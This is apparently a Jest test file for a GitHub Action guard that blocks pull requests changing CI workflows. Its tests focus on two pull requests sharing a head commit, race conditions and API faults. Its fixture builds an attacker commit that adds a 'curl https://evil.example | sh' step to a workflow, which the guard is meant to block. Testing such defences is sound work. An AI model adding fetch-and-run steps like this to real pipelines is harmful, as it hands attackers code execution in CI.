import { join } from 'node:path';
import { afterEach, describe, expect, it } from '@jest/globals';
import { Scenario, loadEvent, startFakeGitHub } from '../../servers/fake-github/index.js';
import type { Fault, FakeGitHub, FakeRepo, Handler } from '../../servers/fake-github/index.js';
import { pullListHandlers } from '../../servers/fake-github/handlers-pull-list.js';
import { runAction } from '../../support/run-action.js';

/**
 * A check run belongs to a commit: two pull requests with one head share the
 * `ringfence/guard` check. The guard, run as a runner runs it, must never let one pull
 * request's success stand for another's.
 */
const ENTRY = join(process.cwd(), 'dist/guard/main.js');
const GITHUB_TOKEN = 'ghs_readtoken0123456789abcdefghijklmnopq';
const APP_TOKEN = 'ghs_apptoken0123456789abcdefghijklmnopqr';
const WORKFLOW = 'on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n';

let server: FakeGitHub | undefined;
afterEach(async () => {
  server?.assertNoSchemaViolations();
  await server?.close();
  server = undefined;
});

interface World {
  readonly server: FakeGitHub;
  readonly repo: FakeRepo;
  /** The attacker's head commit: it changes the CI workflow. */
  readonly head: string;
}

// main holds the workflow; `legacy` already holds the head commit, so a pull request into it changes nothing.
async function world(options: { faults?: Fault[]; handlers?: Handler[] } = {}): Promise<World> {
  const scenario = new Scenario();
  const repo = scenario.repo('acme', 'app');
  const base = repo.commit({ '.github/workflows/ci.yml': WORKFLOW, 'src/app.ts': 'export {};\n' });
  const head = repo.commitOn(base, { '.github/workflows/ci.yml': `${WORKFLOW}      - run: curl https://evil.example | sh\n` });
  repo.branch('main', base).branch('legacy', head);
  repo.permission('alice', 'write').permission('eve', 'read');
  server = await startFakeGitHub({ scenario, faults: options.faults ?? [], handlers: options.handlers ?? [] });
  return { server, repo, head };
}

function open(w: World, number: number, base: string, reviews: { id: number; login: string; state: 'APPROVED'; commitId: string }[] = []): void {
  w.repo.pullRequest({ number, base, head: w.head, author: 'eve', commits: [{ sha: w.head, author: 'eve', committer: 'eve', verified: false, reason: 'unsigned' }], reviews });
}

async function guard(w: World, number: number, event: 'pull_request_target' | 'workflow_dispatch' = 'pull_request_target') {
  const repository = { full_name: 'acme/app', name: 'app', owner: { login: 'acme' }, default_branch: 'main' };
  const payload = event === 'workflow_dispatch' ? loadEvent('workflow_dispatch', undefined, { repository, inputs: { 'pull-request': String(number) } }) : loadEvent('pull_request', 'synchronize', { repository, pull_request: { number } });
  const ref = event === 'workflow_dispatch' ? 'refs/heads/main' : `refs/pull/${number}/merge`;
  const inputs = { 'github-token': GITHUB_TOKEN, 'app-token': APP_TOKEN, ...(event === 'workflow_dispatch' ? { 'pull-request': String(number) } : {}) };
  const run = await runAction({ entry: ENTRY, inputs, event: { name: event, payload }, env: { GITHUB_API_URL: w.server.url, GITHUB_REPOSITORY: 'acme/app', GITHUB_REF: ref } });
  expect(run.everything.split('\n').filter((line) => !line.startsWith('::add-mask::')).join('\n')).not.toContain(APP_TOKEN);
  return run;
}

/** The `ringfence/guard` check runs on `sha`, oldest first: the last one is what a ruleset sees. */
const checksOn = (w: World, sha: string) =>
  w.repo.checkRuns.map((r) => r.body as { name: string; head_sha: string; conclusion: string; output: { summary: string } }).filter((b) => b.name === 'ringfence/guard' && b.head_sha === sha);

describe('two pull requests with one head commit', () => {
  it('a second pull request with the blocked head into a branch that already holds it posts a failure naming the first', async () => {
    const w = await world();
    open(w, 9, 'main');
    expect((await guard(w, 9)).outputs['verdict']).toBe('blocked');
    open(w, 10, 'legacy');
    const run = await guard(w, 10);
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.summary).toContain('HEAD_SHARED');
    expect(run.summary).toContain('#9 (into main)');
    expect(checksOn(w, w.head).map((c) => c.conclusion)).toEqual(['failure', 'failure']);
    expect(checksOn(w, w.head).at(-1)!.output.summary).toContain('Close \\#9 and re-run the guard for \\#10');
  });

  it('the same pull request alone is allowed (the rule, not the branch, is what blocked it)', async () => {
    const w = await world();
    open(w, 10, 'legacy');
    const run = await guard(w, 10);
    expect(run.outputs['verdict']).toBe('allowed');
    expect(checksOn(w, w.head).map((c) => c.conclusion)).toEqual(['success']);
  });

  it('a closed pull request with the same head, and open ones with other heads, do not count', async () => {
    const w = await world();
    open(w, 8, 'main');
    w.repo.pulls.get(8)!.state = 'closed';
    w.repo.pullRequest({ number: 11, base: 'main', head: w.repo.commitOn(w.head, { 'src/app.ts': 'export const x = 1;\n' }) });
    open(w, 10, 'legacy');
    expect((await guard(w, 10)).outputs['verdict']).toBe('allowed');
  });

  it('a legitimately allowed pull request is blocked by a newcomer with its head, until that one is closed and it is re-run', async () => {
    const w = await world();
    open(w, 9, 'main', [{ id: 1, login: 'alice', state: 'APPROVED', commitId: '' }]);
    w.repo.pulls.get(9)!.reviews[0] = { id: 1, login: 'alice', state: 'APPROVED', commitId: w.head };
    expect((await guard(w, 9)).outputs['verdict']).toBe('allowed');
    open(w, 10, 'legacy');
    expect((await guard(w, 10)).outputs['verdict']).toBe('blocked');
    expect(checksOn(w, w.head).map((c) => c.conclusion)).toEqual(['success', 'failure']);
    w.repo.pulls.get(10)!.state = 'closed';
    expect((await guard(w, 9, 'workflow_dispatch')).outputs['verdict']).toBe('allowed');
    expect(checksOn(w, w.head).map((c) => c.conclusion)).toEqual(['success', 'failure', 'success']);
  });

  it('a pull request opened with the head while the guard was deciding is caught by the list after posting, and a failure follows the success', async () => {
    let lists = 0;
    // The first list answers before #9 exists; #9 is opened right after it.
    const opening: Handler = {
      ...pullListHandlers[0]!,
      fn: (request, scenario) => {
        const answer = pullListHandlers[0]!.fn(request, scenario);
        if (++lists === 1) open(w, 9, 'main');
        return answer;
      },
    };
    const w = await world({ handlers: [opening] });
    open(w, 10, 'legacy');
    const run = await guard(w, 10);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.summary).toContain('#9 (into main)');
    expect(checksOn(w, w.head).map((c) => c.conclusion)).toEqual(['success', 'failure']);
  });

  it.each(['forbidden', 'not-json'] as const)('an API fault on the list (%s) blocks: the pull request is not allowed and its check fails', async (kind) => {
    const w = await world({ faults: [{ route: 'GET /repos/{owner}/{repo}/pulls', kind, times: Infinity }] });
    open(w, 10, 'legacy');
    const run = await guard(w, 10);
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('error');
    expect(run.summary).toContain('could not tell which other pull requests have head');
    expect(checksOn(w, w.head).map((c) => c.conclusion)).toEqual(['failure']);
  });

  it('the list failing after a success was posted takes the success back with a failure', async () => {
    const w = await world({ faults: [{ route: 'GET /repos/{owner}/{repo}/pulls', kind: 'forbidden', nth: 2, times: Infinity }] });
    open(w, 10, 'legacy');
    const run = await guard(w, 10);
    expect(run.outputs['verdict']).toBe('error');
    expect(checksOn(w, w.head).map((c) => c.conclusion)).toEqual(['success', 'failure']);
  });

  it('a failure that cannot replace the posted success fails the step loudly, naming what to do', async () => {
    const w = await world({ faults: [{ route: 'GET /repos/{owner}/{repo}/pulls', kind: 'forbidden', nth: 2, times: Infinity }, { route: 'POST /repos/{owner}/{repo}/check-runs', kind: 'forbidden', nth: 2, times: Infinity }] });
    open(w, 10, 'legacy');
    const run = await guard(w, 10);
    expect(run.exitCode).not.toBe(0);
    expect(run.everything).toContain('could not be replaced by a failure after 3 attempts');
    expect(run.everything).toContain('re-run the guard before merging');
  }, 30_000);
});
